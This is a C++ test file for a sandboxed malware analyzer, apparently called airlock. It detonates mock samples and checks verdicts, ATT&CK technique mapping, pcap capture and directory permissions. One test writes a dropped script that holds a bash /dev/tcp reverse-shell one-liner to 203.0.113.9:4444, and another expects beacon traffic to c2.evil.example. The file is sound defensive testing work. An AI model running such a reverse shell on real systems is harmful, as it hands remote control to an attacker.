// airlock analyze on a corpus of harmless samples that behave like malware, and benign hard
// negatives, with the expected verdicts and techniques in tests/samples/analyze/expected.json.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <nlohmann/json.hpp>

#include <filesystem>
#include <set>

#include "test_env.h"

using namespace airlock::test;
namespace fs = std::filesystem;

namespace {

class AnalyzeCorpus : public ::testing::TestWithParam<std::string> {};

std::string SamplesDir() { return SourceDir() + "/tests/samples/analyze"; }

nlohmann::json Expected() { return nlohmann::json::parse(ReadFileOrEmpty(SamplesDir() + "/expected.json")); }

std::vector<std::string> SampleNames() {
  std::vector<std::string> names;
  const nlohmann::json expected = Expected();
  for (auto it = expected.begin(); it != expected.end(); ++it) names.push_back(it.key());
  return names;
}

}  // namespace

TEST_P(AnalyzeCorpus, VerdictAndTechniques) {
  const std::string name = GetParam();
  auto exp = Expected()[name];
  std::string out = MakeTempDir("analyze");
  // Stage the sample where the (possibly unprivileged) test user can read it.
  std::string sample = out + "/" + name;
  WriteFile(sample, ReadFileOrEmpty(SamplesDir() + "/" + name), 0755);
  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--timeout", "20s", "--out", out + "/report", sample}, "", 180);
  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
  std::string verdict = report["verdict"];
  bool ok = false;
  for (const auto& v : exp["verdict"]) ok |= v == verdict;
  EXPECT_TRUE(ok) << name << " gave " << verdict << " score " << report["score"] << "\n" << r.out << r.err;
  int want_exit = verdict == "malicious" ? 1 : verdict == "suspicious" ? 3 : 0;
  EXPECT_EQ(r.exit_code, want_exit) << r.err;
  if (exp.contains("techniques_any")) {
    bool any = false;
    for (const auto& t : report["techniques"])
      for (const auto& w : exp["techniques_any"]) any |= t == w;
    EXPECT_TRUE(any) << name << ": techniques " << report["techniques"].dump();
  }
  // Network samples: the sinkhole's record of the names and URLs they tried (docs/REPORT.md).
  for (const auto& [key, section] : {std::pair<const char*, const char*>{"domains_all", "domains"}, {"urls_all", "urls"}}) {
    if (!exp.contains(key)) continue;
    std::string got = report["network"][section].dump();
    for (const auto& want : exp[key]) EXPECT_NE(got.find(want.get<std::string>()), std::string::npos) << name << ": " << section << " " << got;
  }
  EXPECT_EQ(report["run"]["reason"], "ok") << report["run"].dump();
  EXPECT_GT(report["behavior"]["events"].get<int>(), 0);
  std::string html = ReadFileOrEmpty(out + "/report/report.html");
  EXPECT_NE(html.find("<h2>Process tree</h2>"), std::string::npos);
  EXPECT_NE(html.find(verdict), std::string::npos);
  EXPECT_EQ(html.find("<script"), std::string::npos) << "the HTML report must be static";
  // No sandbox-internal path of the scanner's input: objects are named by the sample's name.
  const std::string dumped = report.dump();
  EXPECT_EQ(dumped.find("\"/in\""), std::string::npos) << name;
  EXPECT_EQ(dumped.find("\"/in > "), std::string::npos) << name;
  // Analyst-readable: matched events as key/value tables (never raw JSON), techniques linked to ATT&CK.
  if (!report["behavior"]["matches"].empty()) {
    EXPECT_NE(html.find("<table class=kv>"), std::string::npos) << name;
    EXPECT_EQ(html.find("{&quot;EventID&quot;"), std::string::npos) << name << ": an event shown as raw JSON";
  }
  for (const auto& t : report["techniques"]) {
    std::string url = t.get<std::string>();
    for (char& c : url)
      if (c == '.') c = '/';
    EXPECT_NE(html.find("https://attack.mitre.org/techniques/" + url + "/"), std::string::npos) << name << ": " << url;
  }
  fs::remove_all(out);
}

INSTANTIATE_TEST_SUITE_P(Samples, AnalyzeCorpus, ::testing::ValuesIn(SampleNames()),
                         [](const ::testing::TestParamInfo<std::string>& p) {
                           std::string n = p.param;
                           for (char& c : n)
                             if (!isalnum(static_cast<unsigned char>(c))) c = '_';
                           return n;
                         });

TEST(Analyze, DroppedFilesAreCollectedAndTriaged) {
  std::string out = MakeTempDir("analyze-drop");
  std::string sample = out + "/drop.sh";
  WriteFile(sample, "#!/bin/sh\nprintf '#!/bin/sh\\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\\n' > /tmp/stage2.sh\n", 0755);
  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--out", out + "/report", sample}, "", 180);
  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
  bool found = false;
  for (const auto& d : report["dropped"]) {
    if (d["path"] == "/tmp/stage2.sh") {
      found = true;
      EXPECT_EQ(d["verdict"], "malicious") << d.dump();
      EXPECT_EQ(d["sha256"].get<std::string>().size(), 64u);
    }
  }
  EXPECT_TRUE(found) << report["dropped"].dump() << r.err;
  EXPECT_EQ(report["verdict"], "malicious");
  // The HTML report says why the dropped file got its verdict: its findings, strongest first.
  const std::string html = ReadFileOrEmpty(out + "/report/report.html");
  const size_t row = html.find("<td>/tmp/stage2.sh</td>");
  ASSERT_NE(row, std::string::npos);
  const std::string why = html.substr(row, html.find("</tr>", row) - row);
  EXPECT_NE(why.find("T1059.004"), std::string::npos) << why;
  EXPECT_NE(why.find("/dev/tcp/"), std::string::npos) << "the evidence" << why;
  fs::remove_all(out);
}

// The sinkhole's traffic as packets: OUT/traffic.pcap holds the beacon's DNS question and its HTTP
// POST (tcpdump reads it back where installed); the report names the file. A second run into the same
// directory writes a new one.
TEST(Analyze, TheSinkholeTrafficIsWrittenAsPcap) {
  std::string out = MakeTempDir("analyze-pcap");
  const std::string sample = SamplesDir() + "/c2_beacon.sh";
  for (int run = 0; run < 2; ++run) {
    auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--timeout", "15s", "--out", out + "/report", sample}, "", 180);
    auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"), nullptr, false);
    ASSERT_TRUE(report.is_object()) << r.err;
    ASSERT_TRUE(report["network"].contains("pcap")) << report["network"].dump() << r.err;
    EXPECT_EQ(report["network"]["pcap"]["file"], "traffic.pcap");
    EXPECT_GT(report["network"]["pcap"]["bytes"].get<uint64_t>(), 24u);
    const std::string pcap = out + "/report/traffic.pcap";
    EXPECT_EQ(static_cast<uint64_t>(fs::file_size(pcap)), report["network"]["pcap"]["bytes"].get<uint64_t>());
    const std::string bytes = ReadFileOrEmpty(pcap);
    EXPECT_NE(bytes.find("POST /api/beacon HTTP/1.1"), std::string::npos) << "the request, as the sample sent it";
    EXPECT_NE(bytes.find(std::string("\x02" "c2\x04" "evil\x07" "example", 16)), std::string::npos) << "the DNS question";
    if (::access("/usr/bin/tcpdump", X_OK) == 0) {
      auto read = airlock::test::Run({"/usr/bin/tcpdump", "-nn", "-vv", "-r", pcap});
      EXPECT_EQ(read.exit_code, 0) << read.err;
      EXPECT_NE(read.out.find("A? c2.evil.example."), std::string::npos) << read.out;
      EXPECT_NE(read.out.find("POST /api/beacon"), std::string::npos) << read.out;
      EXPECT_EQ(read.out.find("bad cksum"), std::string::npos) << read.out;
    } else {
      std::cerr << "[          ] no /usr/bin/tcpdump (apt-get install tcpdump): the read-back by a real reader is not tried\n";
    }
  }
  fs::remove_all(out);
}

TEST(Analyze, UsageErrorIsExitTwo) {
  // Was CLI11's own code (106 for a missing file), outside the documented 0..3.
  auto r = airlock::test::Run({AirlockBin(), "analyze"}, "", 60);
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_NE(r.err.find("file is required"), std::string::npos) << r.err;
}

TEST(Analyze, NoRunnerMeansStaticOnlyAndSaysSo) {
  std::string out = MakeTempDir("analyze-static");
  std::string sample = out + "/notes.txt";
  WriteFile(sample, "just some text\n", 0644);
  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--out", out + "/report", sample}, "", 120);
  EXPECT_EQ(r.exit_code, 0) << r.err;
  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
  EXPECT_EQ(report["runner"]["kind"], "none");
  EXPECT_NE(report["runner"]["why"].get<std::string>().find("static analysis only"), std::string::npos);
  EXPECT_EQ(report["verdict"], "clean");
  fs::remove_all(out);
}

// An ELF sample is executed directly (the "elf" runner) and judged by what it does.
TEST(Analyze, ElfSampleIsExecutedAndJudgedByItsBehavior) {
  std::string out = MakeTempDir("analyze-elf");
  std::string sample = out + "/updater";
  WriteFile(sample, ReadFileOrEmpty(Helper("sample_persist_elf")), 0755);
  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--timeout", "20s", "--out", out + "/report", sample}, "", 180);
  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
  EXPECT_EQ(report["runner"]["kind"], "elf") << r.err;
  EXPECT_EQ(report["verdict"], "malicious") << report["behavior"]["matches"].dump();
  bool autostart = false;
  for (const auto& t : report["techniques"]) autostart |= t == "T1547.013";
  EXPECT_TRUE(autostart) << report["techniques"].dump();
  EXPECT_EQ(r.exit_code, 1) << r.err;
  fs::remove_all(out);
}

// An archive is unpacked (sandboxed airlock-scan --extract) and its runnable members detonated
// together; a member that blocks does not hide the others, and a text member is not run.
TEST(Analyze, ArchiveMembersAreUnpackedAndDetonated) {
  std::string out = MakeTempDir("analyze-archive");
  std::string pkg = out + "/pkg";
  fs::create_directories(pkg);
  WriteFile(pkg + "/README.txt", "read me\n", 0644);
  WriteFile(pkg + "/wait.sh", "#!/bin/sh\nsleep 600\n", 0755);
  WriteFile(pkg + "/update.sh", ReadFileOrEmpty(SourceDir() + "/tests/samples/analyze/dropper_persistence.sh"), 0755);
  auto tar = airlock::test::Run({"/bin/tar", "czf", out + "/bundle.tar.gz", "-C", out, "pkg"}, "", 60);
  ASSERT_EQ(tar.exit_code, 0) << tar.err;
  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--timeout", "15s", "--out", out + "/report", out + "/bundle.tar.gz"}, "", 240);
  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
  EXPECT_EQ(report["runner"]["kind"], "archive") << r.err;
  std::set<std::string> names;
  for (const auto& m : report["runner"]["members"]) names.insert(m["name"].get<std::string>());
  EXPECT_EQ(names, (std::set<std::string>{"update.sh", "wait.sh"})) << report["runner"].dump();
  EXPECT_EQ(report["verdict"], "malicious") << report["behavior"]["matches"].dump();
  bool persistence = false;
  for (const auto& t : report["techniques"]) persistence |= t == "T1547.013" || t == "T1053.003";
  EXPECT_TRUE(persistence) << report["techniques"].dump();
  fs::remove_all(out);
}

// Every directory airlock analyze creates is private (mode 0700): the report directory, its work
// area and, inside, the directories the sandboxes write (the unpacked members, the sample's /tmp and
// home), which belong to the sandboxes' host user (the caller; 65534 when root runs it). Before, the
// members waited for detonation in a world-writable directory another local user could swap.
TEST(Analyze, WorkDirectoriesArePrivate) {
  std::string out = MakeTempDir("analyze-private");
  fs::create_directories(out + "/docs");
  WriteFile(out + "/docs/notes.txt", "minutes of the meeting\n", 0644);
  auto tar = airlock::test::Run({"/bin/tar", "czf", out + "/docs.tar.gz", "-C", out, "docs"}, "", 60);
  ASSERT_EQ(tar.exit_code, 0) << tar.err;
  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--out", out + "/new/report", out + "/docs.tar.gz"}, "", 180);
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/new/report/report.json"));
  EXPECT_EQ(report["runner"]["kind"], "archive") << r.err;
  const uid_t sandbox_uid = geteuid() == 0 ? 65534 : geteuid();
  struct Want {
    std::string path;
    uid_t owner;
  };
  for (const Want& w : {Want{out + "/new", geteuid()}, Want{out + "/new/report", geteuid()}, Want{out + "/new/report/work", geteuid()},
                        Want{out + "/new/report/work/sample", sandbox_uid}, Want{out + "/new/report/work/sample/members", sandbox_uid},
                        Want{out + "/new/report/work/tmp", sandbox_uid}, Want{out + "/new/report/work/home", sandbox_uid}}) {
    struct stat st {};
    ASSERT_EQ(lstat(w.path.c_str(), &st), 0) << w.path;
    EXPECT_TRUE(S_ISDIR(st.st_mode)) << w.path;
    EXPECT_EQ(st.st_mode & 07777, 0700u) << w.path;
    EXPECT_EQ(st.st_uid, w.owner) << w.path;
  }
  EXPECT_TRUE(fs::exists(out + "/new/report/work/sample/members/docs/notes.txt") ||
              !fs::is_empty(out + "/new/report/work/sample/members"))
      << "nothing unpacked";
  fs::remove_all(out);
}

// An archive without runnable members is analysed statically and says so.
TEST(Analyze, ArchiveWithoutRunnableMembersIsStaticOnly) {
  std::string out = MakeTempDir("analyze-archive-static");
  fs::create_directories(out + "/docs");
  WriteFile(out + "/docs/notes.txt", "minutes of the meeting\n", 0644);
  auto tar = airlock::test::Run({"/bin/tar", "czf", out + "/docs.tar.gz", "-C", out, "docs"}, "", 60);
  ASSERT_EQ(tar.exit_code, 0) << tar.err;
  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--out", out + "/report", out + "/docs.tar.gz"}, "", 180);
  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
  EXPECT_EQ(report["runner"]["kind"], "archive") << r.err;
  EXPECT_TRUE(report["runner"]["members"].empty());
  EXPECT_NE(report["runner"]["why"].get<std::string>().find("no runnable member"), std::string::npos) << report["runner"].dump();
  EXPECT_EQ(report["verdict"], "clean");
  EXPECT_EQ(r.exit_code, 0) << r.err;
  fs::remove_all(out);
}

namespace {

// A SigmaHQ-style "community" rule made at test time: level critical, fires on uname.
const char* kCommunityRule = R"(title: Community Test - uname Run
id: 5b0c7e8e-5d7a-4f55-9d62-3f1d2c9a0b17
status: test
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith: '/uname'
    condition: selection
tags:
    - attack.discovery
    - attack.t1082
level: critical
)";

nlohmann::json AnalyzeWithCommunityRule(const std::string& out, const std::vector<std::string>& env) {
  fs::create_directories(out + "/community");
  WriteFile(out + "/community/uname.yml", kCommunityRule, 0644);
  WriteFile(out + "/uname.sh", "#!/bin/sh\nuname -a\n", 0755);
  std::vector<std::string> argv = {"/usr/bin/env"};
  argv.insert(argv.end(), env.begin(), env.end());
  for (const std::string& a : {AirlockBin(), std::string("analyze"), std::string("--quiet"), std::string("--timeout"), std::string("20s"),
                               std::string("--rules"), out + "/community", std::string("--out"), out + "/report", out + "/uname.sh"})
    argv.push_back(a);
  auto r = airlock::test::Run(argv, "", 180);
  return nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"), nullptr, false);
}

}  // namespace

// Issue 17, verdict policy: one community rule (from --rules) of any level names its technique and
// raises the score, but alone makes a sample at most suspicious, unless it is in the decisive set
// (rules/community/decisive.txt, replaced here through AIRLOCK_RULES_DIR).
TEST(Analyze, CommunityRuleAloneIsCappedUnlessDecisive) {
  std::string out = MakeTempDir("analyze-community");
  nlohmann::json report = AnalyzeWithCommunityRule(out + "/capped", {});
  ASSERT_TRUE(report.is_object());
  EXPECT_EQ(report["verdict"], "suspicious") << report["behavior"]["matches"].dump();
  bool capped = false;
  for (const auto& m : report["behavior"]["matches"]) capped |= m.value("community", "") == "capped at medium";
  EXPECT_TRUE(capped) << report["behavior"]["matches"].dump();
  bool listed = false;
  for (const auto& t : report["observed_techniques"]) listed |= t["technique"] == "T1082" && t["level"] == "medium";
  EXPECT_TRUE(listed) << report["observed_techniques"].dump();

  // The same rule, listed as decisive, decides alone.
  std::string rules = out + "/rules";
  fs::create_directories(rules + "/community");
  fs::copy(SourceDir() + "/rules/behavior", rules + "/behavior", fs::copy_options::recursive);
  WriteFile(rules + "/community/decisive.txt", "5b0c7e8e-5d7a-4f55-9d62-3f1d2c9a0b17  # the test rule\n", 0644);
  report = AnalyzeWithCommunityRule(out + "/decisive", {"AIRLOCK_RULES_DIR=" + rules});
  ASSERT_TRUE(report.is_object());
  EXPECT_EQ(report["verdict"], "malicious") << report["behavior"]["matches"].dump();
  fs::remove_all(out);
}

// Issue 17: every observed technique is in the report with its level and evidence, whatever the
// verdict; the first process's parent is the sandbox, no host path of airlock or of the work area.
TEST(Analyze, ObservedTechniquesAreListedApartFromTheVerdict) {
  std::string out = MakeTempDir("analyze-observed");
  std::string sample = out + "/who.sh";
  WriteFile(sample, "#!/bin/sh\nwhoami\nenv missing_tool_xyz 2>/dev/null\nexit 0\n", 0755);
  auto r = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--timeout", "20s", "--out", out + "/report", sample}, "", 180);
  auto report = nlohmann::json::parse(ReadFileOrEmpty(out + "/report/report.json"));
  EXPECT_EQ(report["verdict"], "clean") << r.err;
  nlohmann::json who;
  for (const auto& t : report["observed_techniques"])
    if (t["technique"] == "T1033") who = t;
  ASSERT_TRUE(who.is_object()) << report["observed_techniques"].dump();
  EXPECT_EQ(who["level"], "low");
  EXPECT_EQ(who["evidence"][0]["evidence"], "whoami") << who.dump();
  const std::string events = ReadFileOrEmpty(out + "/report/events.jsonl");
  const std::string bin = AirlockBin();
  EXPECT_EQ(events.find(bin.substr(0, bin.rfind('/'))), std::string::npos) << events;
  EXPECT_EQ(events.find(out), std::string::npos) << "host work path in the events";
  EXPECT_EQ(events.find("/missing_tool_xyz"), std::string::npos) << "a failed exec along PATH is no process";
  EXPECT_NE(events.find("\"ParentImage\":\"airlock-init\""), std::string::npos) << events;
  fs::remove_all(out);
}
